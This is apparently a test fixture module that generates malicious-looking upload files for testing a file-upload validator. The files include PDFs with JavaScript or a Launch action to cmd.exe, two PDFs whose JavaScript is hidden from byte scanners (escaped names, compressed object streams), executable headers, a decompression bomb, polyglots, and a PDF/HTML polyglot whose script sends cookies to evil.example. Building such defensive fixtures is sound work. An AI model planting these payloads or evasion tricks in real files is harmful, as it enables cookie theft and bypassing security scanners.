"""Files for upload tests, made in memory: good proofs and every kind of bad one."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    FloatObject,
    NameObject,
    TextStringObject,
)

# The test "virus": tests/clamd_support.py makes a ClamAV signature for exactly these bytes.
TEST_VIRUS_MARKER = b"MaintfundTestSignature7c1e94b2d05a"  # letters and digits: stored as is


def png_with_exif(size: tuple[int, int] = (64, 48)) -> bytes:
    image = Image.new("RGB", size, (200, 30, 30))
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"  # Make
    exif[0x8825] = {1: "N"}  # GPS IFD
    out = io.BytesIO()
    image.save(out, "PNG", exif=exif.tobytes())
    return out.getvalue()


def jpeg_with_exif(size: tuple[int, int] = (64, 48)) -> bytes:
    image = Image.new("RGB", size, (30, 30, 200))
    exif = Image.Exif()
    exif[0x010F] = "SecretCamera"
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue() + b"<trailing payload>"


def _link_annotation(action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([FloatObject(v) for v in (0, 0, 100, 100)]),
            NameObject("/A"): action,
        }
    )


def pdf(
    *,
    javascript: bool = False,
    encrypted: bool = False,
    attachment: bool = False,
    launch: bool = False,
    marker: bytes = b"",
) -> bytes:
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    if launch:  # a link on the page that starts a program when clicked
        action = DictionaryObject(
            {NameObject("/S"): NameObject("/Launch"), NameObject("/F"): TextStringObject("cmd.exe")}
        )
        page[NameObject("/Annots")] = ArrayObject([writer._add_object(_link_annotation(action))])
    if marker:  # e.g. TEST_VIRUS_MARKER, in the document information dictionary
        writer.add_metadata({"/Subject": marker.decode("ascii")})
    if javascript:  # a document-open action running JavaScript
        action = DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Action"),
                NameObject("/S"): NameObject("/JavaScript"),
                NameObject("/JS"): TextStringObject("app.alert('hi');"),
            }
        )
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)
    if attachment:
        writer.add_attachment("payload.exe", b"MZ" + b"\0" * 64)
    if encrypted:
        writer.encrypt("secret")
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def executable() -> bytes:
    """A Windows PE header: what an .exe renamed to .pdf starts with."""
    return (
        b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\0" * 240 + b"PE\0\0" + b"\0" * 256
    )


def oversized(limit: int = 10 * 1024 * 1024) -> bytes:
    """A valid-looking PDF header padded past the limit (11 MB by default)."""
    return b"%PDF-1.7\n" + b"0" * (limit + 1024 * 1024)


def pixel_bomb() -> bytes:
    """A tiny PNG that claims a huge canvas (decompression bomb)."""
    image = Image.new("1", (10_000, 10_000))
    out = io.BytesIO()
    image.save(out, "PNG")
    return out.getvalue()


def pdf_obfuscated_javascript() -> bytes:
    """A page link running JavaScript, its names written with #xx escapes (/J#61vaScript = /JavaScript),
    which a plain byte search for "/JavaScript" or "/JS" misses."""
    writer = PdfWriter()
    page = writer.add_blank_page(width=595, height=842)
    action = DictionaryObject(
        {NameObject("/S"): NameObject("/QQQQQQQQQQQQ"), NameObject("/QQQQ"): TextStringObject("app.alert(1)")}
    )
    page[NameObject("/Annots")] = ArrayObject([writer._add_object(_link_annotation(action))])
    out = io.BytesIO()
    writer.write(out)
    # same lengths, so the cross-reference offsets stay right
    return out.getvalue().replace(b"/QQQQQQQQQQQQ", b"/J#61vaScript").replace(b"/QQQQ", b"/J#53")


def pdf_javascript_in_object_stream() -> bytes:
    """A PDF 1.5 whose JavaScript link sits inside a compressed object stream: no active name appears
    anywhere in the file's raw bytes, only in the parsed objects."""
    annot = b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /JavaScript /JS (app.alert(1)) >> >>"
    header = b"5 0 "
    packed = zlib.compress(header + annot)
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [5 0 R] >>",
        4: b"<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(packed))
        + packed
        + b"\nendstream",
    }
    out = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, body in objects.items():
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    offsets[6] = len(out)
    rows = [struct.pack(">BIH", 0, 0, 65535)]
    rows += [struct.pack(">BIH", 1, offsets[n], 0) for n in (1, 2, 3, 4)]
    rows += [struct.pack(">BIH", 2, 4, 0), struct.pack(">BIH", 1, offsets[6], 0)]
    table = b"".join(rows)
    out += (
        b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table)
        + table
        + b"\nendstream\nendobj\n"
    )
    out += b"startxref\n%d\n%%%%EOF\n" % offsets[6]
    return bytes(out)


def pdf_with_html_appended() -> bytes:
    """A PDF/HTML polyglot: a valid PDF, then a page of HTML after %%EOF."""
    return pdf() + b"<html><body><script>document.location='https://evil.example/'+document.cookie</script>"


def elf() -> bytes:
    """A Linux executable header (ELF64, x86-64)."""
    return b"\x7fELF\x02\x01\x01\x00" + b"\0" * 8 + b"\x02\x00\x3e\x00\x01\x00\x00\x00" + b"\0" * 240


def jpeg_zip_polyglot() -> bytes:
    """A JPEG that is also a ZIP (with an HTML page inside): unzip and browsers' sniffers see the archive."""
    image = Image.new("RGB", (32, 32), (10, 120, 10))
    out = io.BytesIO()
    image.save(out, "JPEG")
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as zf:
        zf.writestr("index.html", "<html><script>alert(document.cookie)</script></html>")
    return out.getvalue() + archive.getvalue()


def svg() -> bytes:
    return (
        b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        b"<script>alert(document.cookie)</script></svg>"
    )


def html() -> bytes:
    return b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
